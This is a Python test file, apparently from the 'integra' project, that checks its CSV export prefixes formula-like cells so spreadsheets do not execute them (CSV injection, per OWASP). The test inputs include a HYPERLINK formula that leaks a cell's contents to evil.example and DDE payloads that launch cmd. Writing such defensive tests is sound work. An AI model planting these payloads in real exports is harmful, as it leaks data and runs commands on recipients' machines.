"""Table exports: CSV cells a spreadsheet would run as formulas are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from integra.core.exports import Table, csv_response, neutralised


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Kliknij")',
        "+48 cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tleading tab",
        "\rleading return",
    ],
)
def test_a_formula_cell_is_prefixed_so_it_shows_as_typed(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Gmina Widawa", "-1 234,56", "-12.50", "+48", "1001022", "", "a=b", "e-mail"]
)
def test_plain_text_and_numbers_stay_as_they_are(value):
    assert neutralised(value) == value


def test_the_csv_response_neutralises_header_and_rows():
    table = Table(
        name="t",
        title="t",
        header=["Nazwa", "=1+1"],
        rows=[["=cmd|' /C calc'!A0", "-5,00"], ["@x", "ok"]],
    )
    body = csv_response(table).content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows == [
        ["Nazwa", "'=1+1"],
        ["'=cmd|' /C calc'!A0", "-5,00"],
        ["'@x", "ok"],
    ]
